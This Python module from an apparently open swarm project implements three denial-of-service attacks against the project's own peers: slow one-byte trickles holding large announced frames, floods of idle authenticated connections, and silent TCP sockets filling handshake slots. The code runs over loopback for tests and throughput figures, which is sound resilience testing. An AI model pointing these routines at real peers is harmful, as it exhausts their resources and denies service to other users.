"""Attacks on a peer's data-plane budgets, as a volunteer of an open swarm could mount them: the
three of issue 29, each from its own source address (``127.0.0.x`` on loopback: the per-address
limits count it apart from the members), each held until ``stop`` is set.

- ``trickle``: identities announce the largest frames they may (per identity up to its byte
  budget) and send one byte every few seconds, inside the stall timeout, to hold those bytes;
- ``idle_flood``: identities open as many authenticated connections as they are let and send
  nothing, to fill the connection slots;
- ``silent_sockets``: plain TCP connections that never say a byte, to fill the handshake slots.

Each returns what it achieved: connections (or frames) it got in and held, and what was refused or
closed by the target. Used by ``scripts/attack_figures.sh`` (samples/s under each attack) and the
tests; nothing here is used by a peer.
"""
from __future__ import annotations

import asyncio
import contextlib
from dataclasses import dataclass, field

from ..net import secure
from ..net.handshake import Authenticator
from ..net.wire import REQUEST, REQUEST_MAGIC
from ..swarm.identity import Identity


@dataclass
class Outcome:
    opened: int = 0  # connections (or frames) the target let in
    refused: int = 0  # refused at once (503, a handshake error, a closed socket)
    closed_by_target: int = 0  # let in, closed later by the target (a stall, a deadline, idle)
    notes: list[str] = field(default_factory=list)

    def to_dict(self) -> dict:
        return {"opened": self.opened, "refused": self.refused, "closed_by_target": self.closed_by_target,
                "notes": self.notes[:5]}


async def _open(host: str, port: int, source: str):
    return await asyncio.open_connection(host, port, local_addr=(source, 0) if source else None)


async def _authenticated(host: str, port: int, source: str, ident: Identity, writers: list, out: "Outcome"):
    """An authenticated connection as the protocol has it (records when the session is encrypted,
    as every peer's is now), or None once counted as refused."""
    try:
        r, w = await _open(host, port, source)
        writers.append(w)
        session = await Authenticator(ident).client(r, w)
    except (ConnectionError, OSError) as e:
        out.refused += 1
        out.notes.append(str(e)[:120])
        return None
    return r, secure.SecureWriter(w, session.send_key) if session.encrypted else w


async def _close(writers) -> None:
    for w in writers:
        w.close()
    for w in writers:
        with contextlib.suppress(Exception):
            await w.wait_closed()


async def _held(reader: asyncio.StreamReader, stop: asyncio.Event) -> bool:
    """Waits until ``stop`` (True) or until the target closes the connection (False)."""
    closed = asyncio.ensure_future(reader.read(1 << 16))
    stopping = asyncio.ensure_future(stop.wait())
    try:
        while True:
            done, _ = await asyncio.wait({closed, stopping}, return_when=asyncio.FIRST_COMPLETED)
            if stopping in done:
                return True
            try:
                data = closed.result()
            except (ConnectionError, OSError):
                return False
            if not data:
                return False
            closed = asyncio.ensure_future(reader.read(1 << 16))  # an answer (a 503, say): keep reading
    finally:
        closed.cancel()
        stopping.cancel()


async def trickle(host: str, port: int, identities: list[Identity], stop: asyncio.Event, frames_per_identity: int = 4,
                  frame_bytes: int = 256 << 20, every_s: float = 5.0, kind: str = "act", source: str = "127.0.0.66"
                  ) -> Outcome:
    """Each identity announces ``frames_per_identity`` frames of ``frame_bytes`` (one per
    connection) and sends one byte of each every ``every_s``."""
    out, writers = Outcome(), []

    async def one(ident: Identity) -> None:
        conn = await _authenticated(host, port, source, ident, writers, out)
        if conn is None:
            return
        r, w = conn
        name = kind.encode()
        w.write(REQUEST.pack(REQUEST_MAGIC, len(name), frame_bytes) + name)
        out.opened += 1
        while not stop.is_set():
            try:
                w.write(b"\0")
                await w.drain()
            except (ConnectionError, OSError):
                out.closed_by_target += 1
                return
            if r.at_eof():
                out.closed_by_target += 1
                return
            with contextlib.suppress(asyncio.TimeoutError):
                await asyncio.wait_for(stop.wait(), every_s)

    await asyncio.gather(*(one(i) for i in identities for _ in range(frames_per_identity)))
    await _close(writers)
    return out


async def idle_flood(host: str, port: int, identities: list[Identity], stop: asyncio.Event, per_identity: int = 64,
                     source: str = "127.0.0.67") -> Outcome:
    """Each identity opens ``per_identity`` authenticated connections and sends nothing (8 at a
    time: a patient attacker, not one refused for opening too many at once)."""
    out, writers, pace = Outcome(), [], asyncio.Semaphore(8)

    async def one(ident: Identity) -> None:
        async with pace:
            conn = await _authenticated(host, port, source, ident, writers, out)
        if conn is None:
            return
        r, _ = conn
        out.opened += 1
        if not await _held(r, stop):
            out.closed_by_target += 1

    await asyncio.gather(*(one(i) for i in identities for _ in range(per_identity)))
    await _close(writers)
    return out


async def silent_sockets(host: str, port: int, stop: asyncio.Event, n: int = 64, source: str = "127.0.0.68",
                         reopen: bool = True) -> Outcome:
    """``n`` TCP connections that never send a byte; with ``reopen``, each one the target closes
    is opened again at once (the attacker keeps the pressure on)."""
    out, writers = Outcome(), []

    async def one() -> None:
        while not stop.is_set():
            try:
                r, w = await _open(host, port, source)
            except (ConnectionError, OSError):
                out.refused += 1
                await asyncio.sleep(0.1)
                continue
            writers.append(w)
            out.opened += 1
            t0 = asyncio.get_running_loop().time()
            if await _held(r, stop):
                return
            out.closed_by_target += 1
            if not reopen:
                return
            if asyncio.get_running_loop().time() - t0 < 0.1:  # refused at once: a short pause, not a spin
                await asyncio.sleep(0.1)

    await asyncio.gather(*(one() for _ in range(n)))
    await _close(writers)
    return out


async def newcomer_gets_in(host: str, port: int, timeout_s: float = 5.0, source: str = "127.0.0.1") -> bool:
    """Whether a fresh identity from ``source`` completes a handshake with the target in time."""
    try:
        r, w = await asyncio.wait_for(_open(host, port, source), timeout_s)
    except (ConnectionError, OSError, asyncio.TimeoutError):
        return False
    try:
        await asyncio.wait_for(Authenticator(Identity.generate()).client(r, w), timeout_s)
        return True
    except (ConnectionError, OSError, asyncio.TimeoutError):
        return False
    finally:
        await _close([w])


def loopback_source_ok(source: str) -> bool:
    """Whether this host can send from ``source`` (Linux answers for all of 127.0.0.0/8)."""
    import socket

    with contextlib.suppress(OSError), socket.socket() as s:
        s.bind((source, 0))
        return True
    return False


ATTACKS = ("trickle", "idle-flood", "silent-sockets")


async def run(attack: str, host: str, port: int, stop: asyncio.Event, identities: list[Identity]) -> Outcome:
    """One attack by name (``ATTACKS``) until ``stop``; identities: those it authenticates as."""
    if attack == "trickle":
        return await trickle(host, port, identities[:2], stop)
    if attack == "idle-flood":
        return await idle_flood(host, port, identities[:8], stop)
    if attack == "silent-sockets":
        return await silent_sockets(host, port, stop)
    raise ValueError(f"unknown attack {attack!r} (one of {', '.join(ATTACKS)})")


def identities(n: int) -> list[Identity]:
    return [Identity.generate() for _ in range(n)]


__all__ = ["ATTACKS", "Outcome", "identities", "idle_flood", "loopback_source_ok", "newcomer_gets_in", "run",
           "silent_sockets", "trickle"]
